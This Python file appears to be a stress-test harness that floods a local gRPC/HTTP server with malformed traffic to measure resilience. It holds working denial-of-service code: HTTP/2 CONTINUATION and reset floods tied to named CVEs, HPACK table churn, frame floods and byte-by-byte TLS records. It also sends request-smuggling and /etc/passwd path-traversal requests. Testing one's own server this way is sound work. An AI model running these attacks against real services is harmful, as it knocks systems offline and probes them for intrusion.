"""What no library of gRPC or HTTP would send, by strangers and, where it says so, by a caller with credentials.

Each attack runs in a process of its own, so that it does not slow the caller that is measured. Only for servers on this machine: it
connects to loopback and nowhere else.

    misfits.py PORT ATTACK SECONDS TOKEN
"""

import itertools
import socket
import struct
import sys
import time
from collections.abc import Callable

from outsiders import (ANOTHER_ADDRESS, BULK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, LOOPBACK, MAX_FRAME, PING, PREFACE,
                       SETTINGS, TLS, UNARY, WATCH, WINDOW_UPDATE, Attacker, frame, literal, request, settings)

PRIORITY, PUSH_PROMISE, GOAWAY = 2, 5, 7
PADDED = 8
CONNECTIONS = 8

token = ""


def known() -> bytes:
    return literal("authorization", f"Bearer {token}")


def repeat(port: int, seconds: float, step: Callable[[Attacker], None], first: Callable[[Attacker], None] = lambda attacker: None,
           connections: int = CONNECTIONS) -> dict[str, int]:
    """Takes `step` on each connection again and again, and opens one again, with `first`, when the server has ended it."""
    deadline, opened, steps, attackers = time.monotonic() + seconds, 0, 0, list[Attacker]()
    while time.monotonic() < deadline:
        attackers = [attacker for attacker in attackers if attacker.open]
        while len(attackers) < connections and time.monotonic() < deadline:
            try:
                attackers.append(Attacker(port))
            except OSError:
                break
            attackers[-1].socket.settimeout(1)
            opened += 1
            first(attackers[-1])
        for attacker in attackers:
            step(attacker)
            attacker.drain()
            attacker.ended.clear()
            steps += 1
    for attacker in attackers:
        attacker.close()
    return {"connections": opened, "steps": steps}


def flood(port: int, seconds: float, frames: bytes, path: str = BULK, more: bytes = b"") -> dict[str, int]:
    """The same frames again and again, after a call on stream 1."""
    return repeat(port, seconds, lambda attacker: attacker.send(frames), lambda attacker: attacker.streams(path, 1, more=more))


def calls(port: int, seconds: float, after: Callable[[int], bytes], path: str = BULK, more: bytes = b"", count: int = 50) -> dict[str, int]:
    """`count` calls at a time, each followed by what `after` gives."""
    return repeat(port, seconds, lambda attacker: attacker.streams(path, count, after, more))


def continuations(port: int, seconds: float) -> dict[str, int]:
    """CVE-2024-27316: headers that never end, in frames of the largest size."""
    block = b"".join(literal(f"x-{number:04}", "x" * 100) for number in range(148))
    return repeat(port, seconds, lambda attacker: attacker.send(frame(CONTINUATION, 0, 1, block)),
                  lambda attacker: attacker.send(frame(HEADERS, 0, 1, request(BULK))))


def empty_continuations(port: int, seconds: float) -> dict[str, int]:
    frames = frame(CONTINUATION, 0, 1, b"") * 1_000
    return repeat(port, seconds, lambda attacker: attacker.send(frames), lambda attacker: attacker.send(frame(HEADERS, 0, 1, request(BULK))))


def table_churn(port: int, seconds: float) -> dict[str, int]:
    """Entries that fill HPACK's table again and again, and thousands of references to a long one in each call."""
    entry = b"\x40\x01x" + b"\x7f\xa1\x1e" + b"v" * 4_000  # a literal that is indexed, with a value of 4,000 bytes
    block = request(BULK) + entry + b"\xbe" * 8_000
    def step(attacker: Attacker) -> None:
        attacker.stream += 2
        attacker.send(frame(HEADERS, END_HEADERS, attacker.stream, block))
    return repeat(port, seconds, step, connections=4)


def own_resets(port: int, seconds: float) -> dict[str, int]:
    """CVE-2025-8671: the client breaks a rule of each stream, so that the server resets it and forgets to count it."""
    breaches = itertools.cycle([
        lambda stream: frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0)),
        lambda stream: frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", (1 << 31) - 1)) * 2,
        lambda stream: frame(DATA, END_STREAM, stream, b"") + frame(DATA, 0, stream, b"x"),
        lambda stream: frame(HEADERS, END_HEADERS, stream, request(BULK)),
        lambda stream: frame(PRIORITY, 0, stream, struct.pack(">IB", stream, 0)),
    ])
    return repeat(port, seconds, lambda attacker: attacker.streams(BULK, 100, next(breaches)))


def goaways(port: int, seconds: float) -> dict[str, int]:
    """A client that says that it leaves, again and again, and goes on with new calls."""
    leave = frame(GOAWAY, 0, 0, struct.pack(">II", 0, 0) + b"x" * 1_000)
    return calls(port, seconds, lambda stream: leave)


def odd_headers(port: int, seconds: float) -> dict[str, int]:
    """Names in capitals, pseudo-headers twice and late, trailers in the middle, hundreds of names, empty names."""
    odd = itertools.cycle([
        literal("X-Caps", "a") + literal("x-caps", "b"),
        literal(":path", WATCH) + literal(":status", "200"),
        literal("", "x") + literal("x", ""),
        literal("content-length", "99999999999999999999") + literal("transfer-encoding", "chunked"),
        b"".join(literal(f"n{number}", "") for number in range(500)),
        literal("grpc-timeout", "99999999H") + literal("grpc-encoding", "identity,gzip,x"),
        literal("grpc-timeout", "-1n") + literal("te", "x" * 100),
        literal("connection", "upgrade") + literal("grpc-tags-bin", "!!!"),
    ])
    return repeat(port, seconds, lambda attacker: attacker.streams(
        UNARY, 20, lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, literal("grpc-status", "0")), next(odd)))


def wrong_lengths(port: int, seconds: float) -> dict[str, int]:
    """A caller whose messages say that they have other sizes, or are compressed though no encoding was named."""
    prefixes = itertools.cycle([struct.pack(">BI", 0, (1 << 32) - 1), struct.pack(">BI", 0, 1 << 31), struct.pack(">BI", 1, 100),
                                struct.pack(">BI", 255, 3), b"\x00\x00"])
    return repeat(port, seconds, lambda attacker: attacker.streams(
        BULK, 20, lambda stream: frame(DATA, END_STREAM, stream, next(prefixes) + bytes(50)), known()))


def split_messages(port: int, seconds: float) -> dict[str, int]:
    """A caller whose message comes in 16,000 frames of one byte."""
    def begin(attacker: Attacker) -> None:
        attacker.streams(BULK, 1, lambda stream: frame(DATA, 0, stream, struct.pack(">BI", 0, 3 << 20)), known())
    return repeat(port, seconds, lambda attacker: attacker.send(frame(DATA, 0, attacker.stream, b"\x01") * 2_000), begin)


def wrong_tokens(port: int, seconds: float) -> dict[str, int]:
    """Whole calls with tokens that nobody has: random, long, with NUL and other bytes that no token has."""
    tokens = itertools.cycle(["Bearer a", "Bearer " + "x" * 100, "Bearer hst_\x00shop", "Bearer", "Basic YTpi", "bearer\t" + token + "\x00",
                              "Bearer " + token + " ", "Bearer \u00e9"])
    return repeat(port, seconds, lambda attacker: attacker.streams(
        UNARY, 20, lambda stream: frame(DATA, END_STREAM, stream, bytes(5)), literal("authorization", next(tokens))))


def many_paths(port: int, seconds: float) -> dict[str, int]:
    """Calls of methods that do not exist, each of another."""
    numbers = itertools.count()
    return repeat(port, seconds, lambda attacker: attacker.streams(f"/heapsync.v1.HeapSyncService/M{next(numbers)}", 1,
                                                                    lambda stream: frame(DATA, END_STREAM, stream, bytes(5))))


def small_records(port: int, seconds: float) -> dict[str, int]:
    """TLS: a greeting and calls in records of one byte each."""
    deadline, opened, sent = time.monotonic() + seconds, 0, 0
    stream = PREFACE + settings() + frame(HEADERS, END_HEADERS, 1, request(BULK))
    flood = frame(PING, 0, 0, bytes(8)) + frame(DATA, 0, 1, b"\x00" * 10)
    while time.monotonic() < deadline:
        try:
            with TLS.wrap_socket(socket.create_connection((LOOPBACK, port), timeout=5, source_address=(ANOTHER_ADDRESS, 0))) as client:
                opened += 1
                for byte in itertools.chain(stream, itertools.cycle(flood)):
                    client.send(bytes([byte]))
                    sent += 1
                    if time.monotonic() > deadline:
                        break
        except OSError:
            continue
    return {"connections": opened, "records": sent}


def handshakes(port: int, seconds: float) -> dict[str, int]:
    """TLS: whole handshakes, one after the other, from some connections at a time."""
    deadline, opened = time.monotonic() + seconds, 0
    while time.monotonic() < deadline:
        try:
            with TLS.wrap_socket(socket.create_connection((LOOPBACK, port), timeout=5, source_address=(ANOTHER_ADDRESS, 0))):
                opened += 1
        except OSError:
            continue
    return {"connections": opened}


def http_requests(port: int, seconds: float) -> dict[str, int]:
    """The HTTP port: thousands of pipelined requests, long lines, many headers, ranges, odd methods, bodies in tiny chunks."""
    ranges = ",".join(f"{number}-{number}" for number in range(2_000))
    texts = itertools.cycle([
        b"GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n" * 2_000,
        b"GET /" + b"a" * (1 << 20) + b" HTTP/1.1\r\n",
        b"GET / HTTP/1.1\r\n" + b"".join(b"X-%d: y\r\n" % number for number in range(50_000)) + b"\r\n",
        f"GET / HTTP/1.1\r\nHost: a\r\nRange: bytes={ranges}\r\n\r\n".encode() * 20,
        b"\x00" * (1 << 20),
        b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n" + b"1;" + b"e" * 1_000 + b"\r\nx\r\n" * 10_000,
        b"GET /api/status?" + b"&".join(b"a=%d" % number for number in range(10_000)) + b" HTTP/1.1\r\nHost: a\r\n\r\n",
        b"GET /%2e%2e/%2e%2e/etc/passwd HTTP/1.1\r\nHost: a\r\n\r\nHEAD / HTTP/0.9\r\n\r\n",
        b"GET / HTTP/1.1\r\nContent-Length: -1\r\nContent-Length: 5\r\n\r\nGET / HTTP/1.1\r\n\r\n",
    ])
    deadline, opened, held = time.monotonic() + seconds, 0, list[socket.socket]()
    while time.monotonic() < deadline:
        try:
            client = socket.create_connection((LOOPBACK, port), timeout=2, source_address=(ANOTHER_ADDRESS, 0))
            opened += 1
            held.append(client)
            client.settimeout(0.1)
            client.sendall(next(texts))
        except OSError:
            pass
        if len(held) > 40:
            held.pop(0).close()
    for client in held:
        client.close()
    return {"connections": opened}


Attack = Callable[[int, float], dict[str, int]]

ATTACKS: dict[str, Attack] = {
    "settings": lambda port, seconds: flood(port, seconds, frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535) * 10) * 500),
    "settings_acks": lambda port, seconds: flood(port, seconds, frame(SETTINGS, 1, 0, b"") * 1_000),
    "table_sizes": lambda port, seconds: flood(port, seconds, b"".join(
        frame(SETTINGS, 0, 0, struct.pack(">HI", 1, size)) for size in (0, (1 << 32) - 1) * 500)),
    "priorities": lambda port, seconds: flood(port, seconds, b"".join(
        frame(PRIORITY, 0, stream, struct.pack(">IB", stream + 2, 255)) for stream in range(1, 2_001, 2))),
    "empty_data": lambda port, seconds: flood(port, seconds, frame(DATA, 0, 1, b"") * 2_000),
    "empty_data_of_a_caller": lambda port, seconds: flood(port, seconds, frame(DATA, 0, 1, b"") * 2_000, more=known()),
    "padding": lambda port, seconds: flood(port, seconds, frame(DATA, PADDED, 1, b"\xff" + bytes(255)) * 500),
    "unknown_frames": lambda port, seconds: flood(port, seconds, frame(0xBE, 255, 1, bytes(MAX_FRAME)) * 20),
    "pushes": lambda port, seconds: flood(port, seconds, frame(PUSH_PROMISE, END_HEADERS, 1, struct.pack(">I", 2)) * 100),
    "unread_watch_pings": lambda port, seconds: flood(port, seconds, frame(PING, 1, 0, bytes(8)) * 1_000, WATCH),
    "continuations": continuations,
    "empty_continuations": empty_continuations,
    "table_churn": table_churn,
    "own_resets": own_resets,
    "goaways": goaways,
    "odd_headers": odd_headers,
    "wrong_lengths": wrong_lengths,
    "split_messages": split_messages,
    "wrong_tokens": wrong_tokens,
    "many_paths": many_paths,
    "http_requests": http_requests,
    "small_records": small_records,
    "handshakes": handshakes,
}

if __name__ == "__main__":
    token = sys.argv[4]
    print(ATTACKS[sys.argv[2]](int(sys.argv[1]), float(sys.argv[3])))
